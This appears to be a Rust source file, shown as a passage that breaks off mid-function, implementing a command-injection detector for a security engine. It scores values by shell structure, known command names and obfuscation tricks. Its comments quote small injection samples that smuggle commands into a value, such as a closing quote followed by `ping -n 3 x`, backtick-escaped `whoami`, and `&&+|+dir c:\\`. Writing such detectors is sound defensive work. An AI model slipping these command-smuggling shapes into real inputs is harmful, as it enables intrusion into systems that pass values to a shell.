//! Command injection. The operating system is the signature list: a value is flagged when shell
//! structure (a separator, a command substitution) puts a word at a command position and that
//! word is a command on this machine's PATH or a shell builtin.
//!
//! Prose that merely contains `&` or `;` next to an English word that happens to be a command
//! ("copy & paste", "time | date") is told apart by a score: what precedes the separator (nothing,
//! a closing quote, an address, a number, or a prose word), how tightly it is written, what the
//! arguments look like (flags, paths, redirections, expansions versus plain words) and signs of
//! shell obfuscation. Flagged at [`THRESHOLD`].
//!
//! The detector does not undo percent or entity encodings (the engine hands it every decoded
//! view); it does undo shell-level obfuscation: quotes and backslashes inside words, `$IFS` used
//! as whitespace, empty expansions, `{cmd,arg}` brace lists, cmd.exe carets and globs at a
//! command position. Because the value may be pasted inside a quoted string of the target
//! command, it is also read as if it started inside single and double quotes.

use super::needle;
use crate::check::Check;
use crate::finding::Finding;
// Command names are looked up for nearly every word of every value: FxHash costs a fraction of
// SipHash, and the sets are fixed at startup (a request only probes them, so it cannot fill a
// bucket).
use rustc_hash::FxHashSet as HashSet;
use std::borrow::Cow;
use std::ffi::OsStr;
use std::path::Path;

#[path = "cmdi_builtins.rs"]
mod builtins;
#[path = "cmdi_markup.rs"]
mod markup;

/// Scores at or above this are findings.
pub const THRESHOLD: f32 = 0.5;
/// Bounds of the PATH scan done once at startup.
const MAX_PATH_FILES: usize = 20_000;
const MAX_PATH_DIRS: usize = 64;
/// Lexer bounds: tokens per value (all nesting levels together), substitution nesting, and
/// characters kept per word (longer words are never command names).
const MAX_TOKENS: usize = 8_192;
const MAX_DEPTH: u8 = 6;
const MAX_WORD: usize = 256;
/// Variables remembered per word (a command name holds a few at most).
const MAX_VAR_SPANS: usize = 16;
/// Glob resolutions per value: each one scans the command set.
const MAX_GLOBS: u32 = 4;

/// Bytes without which no shell structure exists (`<(` and `>(` contain `(`).
// `(` but not `)`: a subshell or substitution opens with one, while a lone `)` is the smiley or
// the closing half of an aside in prose ("Enjoy :)", "3 pack)").
const SHELL_BYTES: [bool; 256] = crate::detect::prefilter::byte_set(b";|&`$\n\r(");

/// Bytes with which the lexer reads a word as more than the run of bytes between separators:
/// quotes, escapes, expansions, substitutions, redirections, `&` entities and separators,
/// carets, brace expansions, cmd.exe variables, glob wildcards ([`Present::LEX_SPECIAL`]; see
/// [`CmdiDetector::no_command_word`]).
const LEX_SPECIAL: &[u8] = b"'\"\\$`<>&^{%?*[";

/// How [`CmdiDetector::no_command_word`] reads the other bytes. Space: white space and `(`,
/// which keep a command position. Separator: `;`, `|` and line breaks, which open one. Close:
/// `)`, which ends one. Word: the rest.
const LEX_WORD: u8 = 0;
const LEX_SPACE: u8 = 1;
const LEX_SEPARATOR: u8 = 2;
const LEX_CLOSE: u8 = 3;
static LEX_CLASS: [u8; 256] = crate::detect::prefilter::byte_classes(&[
    (b" \t\x0b\x0c(", LEX_SPACE),
    (b";|\n\r", LEX_SEPARATOR),
    (b")", LEX_CLOSE),
]);

/// Bytes that gate the tests of [`CmdiDetector::best`], found in one pass over the value: most
/// values are short, and one table pass costs less than the several memchr calls it replaces.
#[derive(Clone, Copy)]
struct Present(u32);

impl Present {
    const SHELL: u32 = 1;
    const LT: u32 = 1 << 1;
    const DOLLAR: u32 = 1 << 2;
    const LPAREN: u32 = 1 << 3;
    const SLASH: u32 = 1 << 4;
    const TILDE: u32 = 1 << 5;
    const LINE_BREAK: u32 = 1 << 6;
    const PLUS: u32 = 1 << 7;
    const BACKSLASH: u32 = 1 << 8;
    /// `f` or `F`, in both `for` and `if`.
    const LETTER_F: u32 = 1 << 9;
    const SINGLE_QUOTE: u32 = 1 << 10;
    const DOUBLE_QUOTE: u32 = 1 << 11;
    /// A byte of [`LEX_SPECIAL`].
    const LEX_SPECIAL: u32 = 1 << 12;
    /// A byte of [`LEX_SPECIAL`] that [`QuotedScan`] does not read: `\\`, `$`, `<`, `>`, `^`, `{`.
    const LEX_HARD: u32 = 1 << 13;
    /// `-` and `=`: every option of [`super::cmdi_option`] holds a `-`, and a `=` or the
    /// `;`/`+` that ends find's `-exec`.
    const DASH: u32 = 1 << 14;
    const EQ: u32 = 1 << 15;
    /// Bytes some PowerShell shape of [`super::cmdi_powershell`] needs: an `x` (`iex`,
    /// `Invoke-Expression`), `]` (`[Type]::`), `&` or `.` with `(` (the call operator), `{`
    /// (`icm {`), or `j` (`New-Object`).
    const LETTER_X: u32 = 1 << 16;
    const RBRACKET: u32 = 1 << 17;
    const AMP: u32 = 1 << 18;
    const LBRACE: u32 = 1 << 19;
    const LETTER_J: u32 = 1 << 20;
    const DOT: u32 = 1 << 21;

    const TABLE: [u32; 256] = {
        let mut t = [0u32; 256];
        let mut i = 0;
        while i < 256 {
            if SHELL_BYTES[i] {
                t[i] |= Self::SHELL;
            }
            i += 1;
        }
        t[b'<' as usize] |= Self::LT;
        t[b'$' as usize] |= Self::DOLLAR;
        t[b'(' as usize] |= Self::LPAREN;
        t[b'/' as usize] |= Self::SLASH;
        t[b'~' as usize] |= Self::TILDE;
        t[b'\n' as usize] |= Self::LINE_BREAK;
        t[b'\r' as usize] |= Self::LINE_BREAK;
        t[b'+' as usize] |= Self::PLUS;
        t[b'\\' as usize] |= Self::BACKSLASH;
        t[b'f' as usize] |= Self::LETTER_F;
        t[b'F' as usize] |= Self::LETTER_F;
        t[b'\'' as usize] |= Self::SINGLE_QUOTE;
        t[b'"' as usize] |= Self::DOUBLE_QUOTE;
        t[b'-' as usize] |= Self::DASH;
        t[b'=' as usize] |= Self::EQ;
        t[b'x' as usize] |= Self::LETTER_X;
        t[b'X' as usize] |= Self::LETTER_X;
        t[b']' as usize] |= Self::RBRACKET;
        t[b'&' as usize] |= Self::AMP;
        t[b'.' as usize] |= Self::DOT;
        t[b'{' as usize] |= Self::LBRACE;
        t[b'j' as usize] |= Self::LETTER_J;
        t[b'J' as usize] |= Self::LETTER_J;
        let mut k = 0;
        while k < LEX_SPECIAL.len() {
            let c = LEX_SPECIAL[k];
            t[c as usize] |= Self::LEX_SPECIAL;
            if !matches!(c, b'\'' | b'"' | b'`' | b'&' | b'%' | b'?' | b'*' | b'[') {
                t[c as usize] |= Self::LEX_HARD;
            }
            k += 1;
        }
        t
    };

    fn of(text: &str) -> Self {
        Present(
            text.bytes()
                .fold(0, |acc, c| acc | Self::TABLE[usize::from(c)]),
        )
    }

    fn has(self, flag: u32) -> bool {
        self.0 & flag != 0
    }
}

/// Knows the commands of this machine; inspects one view of one value.
pub struct CmdiDetector {
    commands: HashSet<String>,
    /// Every name [`Self::known`] can accept, lower-cased (commands, tools, Windows names):
    /// a bare word missing here is no command, told with one lookup.
    /// Held as [`any_case_hash`] values: the lookup hashes the word as it reads it, with no
    /// lower-cased copy. A collision only lets a word on to the exact lookups.
    any_case: HashSet<u64>,
    /// Bits set at [`ends_slot`] of every name `any_case` holds: a word whose slot (or its
    /// stem's) is clear is in no case listed, told without hashing it and probing the set.
    ends: [u64; ENDS_WORDS],
    /// [`Self::commands`] sorted by length, then by name: a glob pattern is matched only
    /// against the names of the lengths it can match ([`glob_units`]).
    by_length: Vec<String>,
    /// The [`byte_mask`] of each name of [`Self::by_length`], in the same order: a glob
    /// pattern's literal bytes must all be in a name it matches.
    by_length_bytes: Vec<u64>,
    /// [`Self::commands`] sorted by name: the names a glob pattern's literal prefix allows are
    /// one run of it, and the first of them that matches is the least.
    by_name: Vec<String>,
    /// Windows file systems and cmd.exe ignore case.
    case_insensitive: bool,
    /// Also know the cmd.exe builtins.
    windows_builtins: bool,
    /// Whether a name [`Self::known`] can accept holds a `/` (no file name on PATH does;
    /// `with_commands` may be given one). Without one, `known` rejects every word with a `/`:
    /// its lookups only lower-case the word or drop an extension, which keeps the `/`, and a
    /// cmdlet's verb and noun are letters and digits.
    slash_names: bool,
    /// Whether a name [`Self::known`] or `builtins::is_wrapper` can accept holds a non-ASCII
    /// byte (no file name on PATH, listed name, cmdlet verb or wrapper does; `with_commands` may
    /// be given one). Without one, both reject every word with a non-ASCII byte: their lookups
    /// lower-case ASCII only, and a cmdlet's noun is ASCII.
    non_ascii_names: bool,
    /// Also know attacker tools, Windows commands and PowerShell cmdlets absent from PATH.
    tools: bool,
}

impl CmdiDetector {
    /// Commands found on this machine's PATH (executable files, at most 20,000 entries looked
    /// at) plus the shell builtins an attacker can use, plus a few cmd.exe builtins.
    pub fn from_env() -> Self {
        let mut commands: HashSet<String> =
            builtins::POSIX.iter().map(|s| (*s).to_string()).collect();
        if let Some(path) = std::env::var_os("PATH") {
            scan_path(&path, MAX_PATH_FILES, &mut commands);
        }
        CmdiDetector {
            commands,
            any_case: HashSet::default(),
            ends: [0; ENDS_WORDS],
            by_length: Vec::new(),
            by_length_bytes: Vec::new(),
            by_name: Vec::new(),
            case_insensitive: cfg!(windows),
            windows_builtins: true,
            slash_names: false,
            non_ascii_names: false,
            tools: true,
        }
        .indexed()
    }

    /// A detector that knows exactly these command names (tests).
    pub fn with_commands<I: IntoIterator<Item = S>, S: Into<String>>(names: I) -> Self {
        CmdiDetector {
            commands: names.into_iter().map(Into::into).collect(),
            any_case: HashSet::default(),
            ends: [0; ENDS_WORDS],
            by_length: Vec::new(),
            by_length_bytes: Vec::new(),
            by_name: Vec::new(),
            case_insensitive: false,
            windows_builtins: false,
            slash_names: false,
            non_ascii_names: false,
            tools: false,
        }
        .indexed()
    }

    /// Fills [`Self::any_case`], [`Self::by_length`] and [`Self::by_name`] from the names this detector knows.
    fn indexed(mut self) -> Self {
        let mut by_length: Vec<String> = self.commands.iter().cloned().collect();
        by_length.sort_unstable_by(|a, b| a.len().cmp(&b.len()).then_with(|| a.cmp(b)));
        self.by_length_bytes = by_length.iter().map(|n| byte_mask(n.as_bytes())).collect();
        self.by_length = by_length;
        let mut by_name: Vec<String> = self.commands.iter().cloned().collect();
        by_name.sort_unstable();
        self.by_name = by_name;
        let mut names: Vec<&str> = self.commands.iter().map(String::as_str).collect();
        if self.tools || self.windows_builtins {
            let l = lists();
            names.extend(l.windows.iter().copied());
            if self.tools {
                names.extend(l.tools.iter().chain(l.windows_tools.iter()).copied());
            }
        }
        self.slash_names = names.iter().any(|n| n.contains('/'));
        self.non_ascii_names = names
            .iter()
            .chain(builtins::PS_VERBS)
            .chain(builtins::WRAPPERS)
            .any(|n| !n.is_ascii());
        self.ends = [0; ENDS_WORDS];
        for n in &names {
            let slot = ends_slot(n.as_bytes());
            self.ends[slot / 64] |= 1 << (slot % 64);
        }
        self.any_case = names
            .into_iter()
            .map(|n| any_case_hash(n.as_bytes(), None).0)
            .collect();
        self
    }

    /// Also knows the fixed list of attacker tools and Windows commands (tests).
    pub fn with_tools(mut self) -> Self {
        self.tools = true;
        self.indexed()
    }

    /// Whether `name` counts as a command (tests and diagnostics).
    pub fn knows(&self, name: &str) -> bool {
        self.known(name)
    }

    /// How many command names are known (startup banner).
    pub fn command_count(&self) -> usize {
        self.commands.len()
    }

    /// Inspects one view of a value.
    pub fn inspect(&self, text: &str) -> Option<Finding> {
        // Evidence is written only for a finding.
        let best = self.best(text, true).filter(|b| b.score >= THRESHOLD)?;
        Some(Finding::new(
            Check::Cmdi,
            best.score,
            best.evidence.render(),
        ))
    }

    /// The best score of one view and its evidence, below [`THRESHOLD`] too (diagnostics).
    pub fn score(&self, text: &str) -> Option<(f32, String)> {
        let best = self.best(text, true)?;
        Some((best.score, best.evidence.render()))
    }

    fn best(&self, text: &str, markup: bool) -> Option<Scored> {
        // Each test below that is skipped for a missing byte needs that byte to match.
        let present = Present::of(text);
        if present.has(Present::LT) && ssi_exec(text) {
            return Some(Scored {
                score: 0.9,
                evidence: "server-side include directive '<!--#exec' runs a command".into(),
            });
        }
        let mut best = if present.has(shapes::NEEDS) {
            shapes::special(text, present)
        } else {
            None
        };
        let mail = if present.has(Present::LINE_BREAK) {
            super::cmdi_line_protocol::injected_command(text)
        } else {
            None
        };
        if let Some((proto, line)) = mail {
            let line: String = line.chars().take(80).collect();
            keep(
                &mut best,
                Scored {
                    score: 0.8,
                    evidence: format!("{proto} command '{line}' injected after a line break")
                        .into(),
                },
            );
        }
        let option = (present.has(Present::DASH)
            && present.has(Present::EQ | Present::SHELL | Present::PLUS))
        .then(|| super::cmdi_option::command_option(text))
        .flatten();
        if let Some((option, tool)) = option {
            keep(
                &mut best,
                Scored {
                    score: 0.8,
                    evidence: format!(
                        "option '{option}' makes {tool} run a command (argument injection)"
                    )
                    .into(),
                },
            );
        }
        // Every PowerShell shape holds a `]` or a `$`, or `iex` / `Invoke-Expression` (an `x`)
        // with its argument's `(` or quote or a pipe, or a call operator (`&(`, `.(` with a
        // quoted name), or `(New-Object`, or `icm {` after a separator: "Socks (3 pack)",
        // "O'Brien & Daughters" and "ann@example.com" none.
        let quote = Present::SINGLE_QUOTE | Present::DOUBLE_QUOTE;
        let powershell_may = present.has(Present::RBRACKET | Present::DOLLAR)
            || (present.has(Present::LETTER_X) && present.has(Present::SHELL | quote))
            || (present.has(Present::LPAREN)
                && (present.has(Present::AMP | Present::LETTER_J)
                    || (present.has(Present::DOT) && present.has(quote))))
            || (present.has(Present::LBRACE) && present.has(Present::SHELL));
        let powershell = powershell_may
            .then(|| super::cmdi_powershell::dynamic_code(text))
            .flatten();
        if let Some(what) = powershell {
            keep(
                &mut best,
                Scored {
                    score: 0.85,
                    evidence: format!("PowerShell {what}").into(),
                },
            );
        }
        // Rich text's bare tags are markup, not redirections (see `bare_tags_blanked`).
        let untagged = if present.has(Present::LT) {
            markup::bare_tags_blanked(text)
        } else {
            None
        };
        let shell = untagged.as_deref().unwrap_or(text);
        let shell_bytes = match &untagged {
            Some(u) => u.bytes().any(|b| SHELL_BYTES[b as usize]),
            None => present.has(Present::SHELL),
        };
        // `" ping -n 3 x`: a closing quote and a space before the first word.
        let after_quote = shell
            .strip_prefix(['"', '\''])
            .filter(|r| r.starts_with([' ', '\t']));
        if shell_bytes
            || self.first_word_known(shell)
            || after_quote.is_some_and(|r| self.first_word_known(r))
        {
            let shell_present = untagged.as_deref().map_or(present, Present::of);
            self.lex_views(shell, shell_present, &mut best);
        }
        // Payload lists often carry a newline as the two characters `\n`, at the start of the
        // value (after a closing quote or separator) or at its end.
        let head = || text.trim_start_matches([' ', '\'', '"', ';', '|', '&']);
        if present.has(Present::BACKSLASH)
            && (head().starts_with("\\n")
                || head().starts_with("\\r")
                || text.trim_end().ends_with("\\n"))
        {
            let lines = text
                .replace("\\r\\n", "\n")
                .replace("\\n", "\n")
                .replace("\\r", "\n");
            self.lex_views(&lines, Present::of(&lines), &mut best);
        }
        // Payloads written for query strings use '+' for a space (a decoded `%0a` may stand
        // beside them, a real space never does).
        if present.has(Present::PLUS) {
            if !text.contains([' ', '\t']) {
                let spaced = text.replace('+', " ");
                self.lex_views(&spaced, Present::of(&spaced), &mut best);
            } else if let Some(spaced) = plus_beside_operators(text) {
                // Half-encoded payloads ("&&+|+dir c:\\"): a '+' touching an operator is a
                // space; elsewhere it may be arithmetic or a phone number.
                self.lex_views(&spaced, Present::of(&spaced), &mut best);
            }
        }
        // PowerShell's escape backticks inside words: `w`h`o`a`m`i`.
        if let Some(plain) = (present.has(Present::SHELL) && text.contains('`'))
            .then(|| super::cmdi_powershell::without_escapes(text))
            .flatten()
        {
            if let Some(what) = super::cmdi_powershell::dynamic_code(&plain) {
                keep(
                    &mut best,
                    Scored {
                        score: 0.85,
                        evidence: format!("PowerShell {what} (letters escaped with backticks)")
                            .into(),
                    },
                );
            }
            self.lex_views(&plain, Present::of(&plain), &mut best);
        }
        // Markup starts with `<`.
        if markup && present.has(Present::LT) {
            // A value that is XML or HTML reaches a shell through its attribute values.
            for v in markup::attribute_values(text) {
                if let Some(mut s) = self.best(&v, false) {
                    s.evidence.push_str(" (in a markup attribute value)");
                    keep(&mut best, s);
                }
            }
        }
        best
    }

    /// Whether a name [`Self::known`] or `builtins::is_wrapper` can accept holds a non-ASCII
    /// byte (see `non_ascii_names`): without one, no first word of non-ASCII text names a
    /// command.
    pub fn names_non_ascii(&self) -> bool {
        self.non_ascii_names
    }

    /// Whether a bare word (letters, digits, `-`, `_` only: `prefilter::Classes::WORD`) may be
    /// a command: only as a known name ("whoami", "Get-Process"), since every other reading
    /// needs a separator, quote or operator. One lookup instead of the shapes and the lexer.
    pub fn names_a_command(&self, word: &str) -> bool {
        // `known` itself rejects, with one lookup, a word that is neither listed nor a cmdlet.
        self.known(word)
    }

    /// False when [`Self::inspect`] finds nothing in `text`, a view of plain words (ASCII
    /// letters, digits, `-`, `_`, non-ASCII characters and spaces): of the tests there, only
    /// cmd.exe's statements (`shapes::special`, which needs the view to open with `for` or
    /// `if`: it has no separator) and the lexer read no other byte, and the lexer runs only
    /// when the first word may name a command. Lets the caller skip the rest of the detector
    /// on names and sentences.
    pub fn plain_words_may_run(&self, text: &str) -> bool {
        shapes::keyword_statement(text.as_bytes(), false) || self.first_word_known(text)
    }

    /// Whether `any_case` holds `name` lower-cased, or lower-cased without an `.exe`, `.com`,
    /// `.bat` or `.cmd` suffix (`name` is at most 64 bytes; longer names are never listed).
    fn listed_any_case(&self, name: &str) -> bool {
        self.listed_any_case_bytes(name.as_bytes())
    }

    /// [`Self::listed_any_case`] on bytes.
    fn listed_any_case_bytes(&self, b: &[u8]) -> bool {
        if b.len() > 64 {
            return false;
        }
        // At most one of the four suffixes can match: test the dot before comparing them.
        let stem = b.len().checked_sub(4).filter(|&k| {
            b[k] == b'.' && {
                let ext = [b[k + 1], b[k + 2], b[k + 3]].map(|c| c.to_ascii_lowercase());
                matches!(&ext, b"exe" | b"com" | b"bat" | b"cmd")
            }
        });
        let may_be = |w: &[u8]| {
            let slot = ends_slot(w);
            self.ends[slot / 64] & (1 << (slot % 64)) != 0
        };
        if !may_be(b) && !stem.is_some_and(|k| may_be(&b[..k])) {
            return false;
        }
        let (whole, at_stem) = any_case_hash(b, stem);
        self.any_case.contains(&whole) || at_stem.is_some_and(|h| self.any_case.contains(&h))
    }

    /// False only when neither `known` nor `is_wrapper` can accept `word`: `known` needs the
    /// word in `any_case` or a cmdlet's shape (upper-case first letter and a `-`).
    fn may_name(&self, word: &[u8]) -> bool {
        self.listed_any_case_bytes(word)
            || (word.first().is_some_and(u8::is_ascii_uppercase) && word.contains(&b'-'))
            || builtins::is_wrapper(word)
    }

    /// Whether the first word of the value could name a command (cheap test before lexing a
    /// value that has no separator or substitution).
    fn first_word_known(&self, text: &str) -> bool {
        // A word without quote, backslash, caret, brace, comma, slash, `%`, wildcard or leading
        // `.` is taken as it is by every test below: only the two name lookups can accept it.
        // The pass that finds the word tells both that and whether quoting characters must go.
        let (first, kinds) = first_word(text);
        if first.len() > 96 {
            return false;
        }
        // "Обычный", "Siobhán": a word with a non-ASCII byte is no name `known` or `is_wrapper`
        // accepts (see `non_ascii_names`), quotes dropped or not; only the readings of a
        // path, a `%` variable, a glob, a brace or comma list or a dot-command below (each
        // needs one of these kinds) can accept it.
        let readings = FIRST_WORD_BRACE | FIRST_WORD_SPECIAL | FIRST_WORD_WILDCARD | FIRST_WORD_DOT;
        if kinds & FIRST_WORD_NON_ASCII != 0 && kinds & readings == 0 && !self.non_ascii_names {
            return false;
        }
        let quoting = kinds & FIRST_WORD_QUOTING != 0;
        let brace = kinds & FIRST_WORD_BRACE != 0;
        let special = kinds & (FIRST_WORD_SPECIAL | FIRST_WORD_WILDCARD) != 0;
        if !first.starts_with('.') && !special && !quoting && !brace {
            // `known` accepts only a listed name or a cmdlet, which starts upper case and
            // holds a `-`: most words fail both here, without the call.
            let b = first.as_bytes();
            let cmdlet_shape = b.first().is_some_and(u8::is_ascii_uppercase)
                && byte_position(first, b'-').is_some();
            return ((cmdlet_shape || self.listed_any_case(first)) && self.known(first))
                || builtins::is_wrapper(b);
        }
        // Byte tests below look for ASCII characters only, as the `str` patterns they replace.
        // The quoting characters are ASCII, so dropping their bytes keeps the rest valid UTF-8;
        // the word fits the stack buffer (96 bytes at most, checked above).
        let mut buf = [0u8; 96];
        let word: &str = if quoting {
            let mut n = 0;
            for &c in first.as_bytes() {
                if !matches!(c, b'\'' | b'"' | b'\\' | b'^') {
                    buf[n] = c;
                    n += 1;
                }
            }
            // "O'Brien": with no brace, no byte of `FIRST_WORD_SPECIAL`, no wildcard and no `.`
            // (`sqlite_shell` needs one), the tests below take the word as it is and only
            // `known` (a listed name or a cmdlet's shape) and `is_wrapper` can accept it.
            // Their gates read bytes: reject before the UTF-8 check and the lookups.
            if kinds
                & (FIRST_WORD_BRACE | FIRST_WORD_SPECIAL | FIRST_WORD_WILDCARD | FIRST_WORD_DOT)
                == 0
                && !self.may_name(&buf[..n])
            {
                return false;
            }
            let Ok(w) = std::str::from_utf8(&buf[..n]) else {
                return false;
            };
            w
        } else {
            first
        };
        // Only a word with `{` has a brace expansion.
        let braced = if brace {
            brace_expansion_first(word)
        } else {
            None
        };
        let word = match &braced {
            Some(b) => b.as_str(),
            None => {
                // Leading `{` and `,` trimmed, then up to the next `,` (byte scans: both are
                // ASCII).
                let b = word.as_bytes();
                let from = b
                    .iter()
                    .position(|&c| c != b'{' && c != b',')
                    .unwrap_or(b.len());
                let to = memchr::memchr(b',', &b[from..]).map_or(b.len(), |p| from + p);
                word.get(from..to).unwrap_or("")
            }
        };
        // A URL's `?` is no glob: no command name holds "://". The word is made of bytes of
        // `first` (quotes dropped, a brace alternative or a comma-separated piece taken), so
        // it has a wildcard only if `first` has one.
        let slash = word.bytes().rposition(|c| c == b'/');
        word.starts_with('/')
            || slash.is_some_and(|p| program_dir(&word[..p]))
            || word.starts_with('%')
            || (kinds & FIRST_WORD_WILDCARD != 0
                && memchr::memchr3(b'?', b'*', b'[', word.as_bytes()).is_some()
                && !needle::has(word, "://"))
            // A URL or path is no listed name (see `slash_names`).
            || ((slash.is_none() || self.slash_names) && self.known(word))
            || builtins::is_wrapper(word.as_bytes())
            || builtins::sqlite_shell(word)
    }

    /// Lexes and scores one view, also read as if it started inside a quote; keeps the best.
    /// `present` is `Present::of(text)`.
    fn lex_views(&self, text: &str, present: Present, best: &mut Option<Scored>) {
        if self.no_command_word(text, present) {
            return;
        }
        self.lex_views_all(text, present, best);
    }

    /// True only when lexing `text` cannot find a command, so that [`Self::lex_views`] has
    /// nothing to keep: every score it keeps is a candidate's, and a candidate needs the word
    /// at a command position to resolve (`Analysis::resolve_at`). Decided only for values of
    /// plain words and the simple separators, whose lexing is known without the lexer.
    ///
    /// Without quotes, escapes, expansions, redirections, `&`, carets, braces, `%` and glob
    /// wildcards ([`LEX_SPECIAL`]; `present` is `Present::of(text)`), every word is a run
    /// between white space and separators ([`LEX_CLASS`]) taken as it is, and no word has a
    /// substitution: the lexer yields words, `;` `|` and line-break separators, parentheses
    /// and comments (a run opening with `#` to the line's end) only. `Analysis::list` then
    /// reads a word at a command position after the value's start or a separator (`(` and
    /// comments keep the position, `)` ends it); after an assignment or a keyword the
    /// position carries on. Such a word resolves only as
    /// [`Self::may_resolve`] allows.
    fn no_command_word(&self, text: &str, present: Present) -> bool {
        if present.has(Present::LEX_SPECIAL) {
            return !present.has(Present::LEX_HARD) && self.no_command_word_quoted(text, present);
        }
        let b = text.as_bytes();
        let mut at_cmd = true;
        let mut i = 0;
        while let Some(&c) = b.get(i) {
            if !at_cmd {
                // Only a separator opens a command position again. Comments are not skipped
                // here: a separator inside one only makes more words read.
                match b[i..]
                    .iter()
                    .position(|&c| LEX_CLASS[usize::from(c)] == LEX_SEPARATOR)
                {
                    Some(p) => {
                        i += p + 1;
                        at_cmd = true;
                        continue;
                    }
                    None => return true,
                }
            }
            match LEX_CLASS[usize::from(c)] {
                LEX_SPACE | LEX_SEPARATOR => i += 1,
                LEX_CLOSE => {
                    at_cmd = false;
                    i += 1;
                }
                // A run opening with `#` is a comment, to the line break (not lexed).
                _ if c == b'#' => {
                    i = memchr::memchr2(b'\n', b'\r', &b[i..]).map_or(b.len(), |p| i + p);
                }
                _ => {
                    let start = i;
                    while b
                        .get(i)
                        .is_some_and(|&c| LEX_CLASS[usize::from(c)] == LEX_WORD)
                    {
                        i += 1;
                    }
                    // Separators are ASCII: both ends are char boundaries.
                    let word = text.get(start..i).unwrap_or("");
                    if is_assignment(word) || is_keyword(word) {
                        continue;
                    }
                    // A word longer than the lexer keeps is read cut short: not decided here.
                    if word.len() > MAX_WORD || self.may_resolve(word) {
                        return false;
                    }
                    at_cmd = false;
                }
            }
        }
        true
    }

    /// [`Self::no_command_word`] for a value whose bytes of [`LEX_SPECIAL`] are all quotes,
    /// backticks, `&`, `%` or glob wildcards (documentation with code spans, prose with
    /// apostrophes, URLs with a query string): each view that
    /// [`Self::lex_views_all`] lexes is read by [`QuotedScan`], which follows the lexer on
    /// these bytes without building tokens.
    fn no_command_word_quoted(&self, text: &str, present: Present) -> bool {
        // Fewer bytes than the token budget: the lexer keeps every token (each takes a byte).
        if text.len() >= MAX_TOKENS {
            return false;
        }
        // One scan for every view (its word buffers are large): a scan reads only word text it
        // wrote itself, so only the position starts over.
        let mut scan = QuotedScan::new(self, text);
        [
            (None, 0),
            (Some(b'\''), Present::SINGLE_QUOTE),
            (Some(b'"'), Present::DOUBLE_QUOTE),
        ]
        .into_iter()
        .all(|(start, needs)| {
            (start.is_some() && !present.has(needs)) || {
                scan.i = 0;
                scan.list(false, start).is_some()
            }
        })
    }

    /// Whether `word`, a plain word (see [`Self::no_command_word`]) at a command position, may
    /// make `Analysis::resolve_at` find a command. Wrappers, `at` and dot-commands look at the
    /// words after them: they are let through. Otherwise only `Analysis::lookup` can accept
    /// the word (the other readings of `resolve` need `$`, `{` or `%`), and it accepts a path
    /// only from the root or a program directory, and a name only when known, maybe after
    /// dropping a dotted version.
    fn may_resolve(&self, word: &str) -> bool {
        word.starts_with('.') || self.may_resolve_but_dot_commands(word)
    }

    /// [`Self::may_resolve`] without letting through every word that starts with `.`: the
    /// caller tests the dot-commands themselves (a lone `.`, `builtins::sqlite_shell`), so
    /// that a word like `.Request` (a reference in documentation) is told apart.
    fn may_resolve_but_dot_commands(&self, word: &str) -> bool {
        // `known` accepts only names that pass `may_know`: that test is enough here.
        let may_know = |w: &str| self.listed_any_case(w) || is_cmdlet(w);
        let b = word.as_bytes();
        // A dotted version follows a lower-case name (`python3.11`), and every wrapper is
        // lower case: a word that starts otherwise is neither (`127.0.0.1`).
        let lower_first = b.first().is_some_and(u8::is_ascii_lowercase);
        let found = match b.iter().rposition(|&c| c == b'/') {
            Some(p) => word.starts_with('/') || program_dir(&word[..p]),
            None => {
                may_know(word)
                    || (lower_first
                        && b.last().is_some_and(u8::is_ascii_digit)
                        && unversioned(word).is_some_and(|n| n.iter().any(|n| may_know(n))))
            }
        };
        // cmd.exe's readings in `Analysis::resolve`: `@whoami` and `cmd/cwhoami`.
        let cmd_exe =
            || self.tools && (word.strip_prefix('@').is_some_and(is_tool) || cmd_glued(word));
        found
            || (lower_first && (word == "at" || builtins::is_wrapper(word.as_bytes())))
            || cmd_exe()
    }

    /// [`Self::lex_views`] without the test that skips values with no command word.
    fn lex_views_all(&self, text: &str, present: Present, best: &mut Option<Scored>) {
        let trimmed = text.trim();
        // Markdown table rows ("| date | time |") use pipes as cell borders.
        let row = |l: &str| {
            let l = l.trim();
            l.len() > 2 && l.starts_with(['|', '+']) && l.ends_with(['|', '+'])
        };
        // Counted only when the cheaper tests leave the answer open.
        let mostly_rows = || {
            // Two rows need a line break.
            if memchr::memchr(b'\n', trimmed.as_bytes()).is_none() {
                return false;
            }
            let lines = trimmed.lines().take(256).filter(|l| !l.trim().is_empty());
            let (rows, total) = lines.fold((0, 0), |(r, n), l| (r + usize::from(row(l)), n + 1));
            total > 1 && rows * 2 >= total
        };
        // The row shape first: it needs a `| ` at the start or a line break, which most values
        // lack; then a byte test (all four are ASCII).
        let table_row = ((trimmed.starts_with("| ") && trimmed.ends_with(" |")) || mostly_rows())
            && !trimmed
                .bytes()
                .any(|c| matches!(c, b';' | b'&' | b'`' | b'$'));
        // "$ cmd" lines are a terminal transcript pasted into documentation.
        let prompt = |p: usize| {
            trimmed
                .get(p + 2..)
                .is_some_and(|r| r.starts_with(|c: char| c.is_ascii_alphabetic()))
        };
        // Both inner prompts need a line break, which most values lack.
        let transcript = (trimmed.starts_with("$ ") && prompt(0))
            || (present.has(Present::LINE_BREAK)
                && memchr::memchr(b'\n', text.as_bytes()).is_some()
                && (text.contains("\n$ ") || text.contains("\n    $ ")));
        for (start, needs) in [
            (None, 0),
            (Some(b'\''), Present::SINGLE_QUOTE),
            (Some(b'"'), Present::DOUBLE_QUOTE),
        ] {
            if start.is_some() && !present.has(needs) {
                continue;
            }
            let toks = Lexer::new(text).run(start);
            // `" ping -n 3 x`: the value closes the quote it was pasted into and goes on with a
            // command line of its own, read as if the value started after the quote.
            let skip = usize::from(start.is_some() && closes_then_space(&toks, text));
            let mut a = Analysis {
                det: self,
                src: text,
                table_row,
                transcript,
                globs: 0,
                assigned: Vec::new(),
                best: None,
            };
            a.list(&toks[skip..], Opener::ValueStart, true);
            if let Some(mut s) = a.best {
                if start.is_some() {
                    s.evidence.push_str(" (value read as closing a quote)");
                }
                keep(best, s);
            }
        }
    }

    fn known(&self, name: &str) -> bool {
        if name.len() < 2 || name.len() > 64 {
            return false;
        }
        // Most words are no command: one lookup of the lower-cased name (and its stem) in
        // `any_case`, which holds every name a branch below can accept, rejects them without the
        // four case-sensitive lookups and the lower-case copy. Cmdlets are matched by shape.
        if !self.listed_any_case(name) && !is_cmdlet(name) {
            return false;
        }
        if self.commands.contains(name) {
            return true;
        }
        if self.tools
            && (lists()
                .tools
                .contains(name.strip_suffix(".exe").unwrap_or(name)))
        {
            return true;
        }
        if !self.case_insensitive && !self.windows_builtins && !self.tools {
            return false;
        }
        let lower = lower_case(name);
        if self.tools {
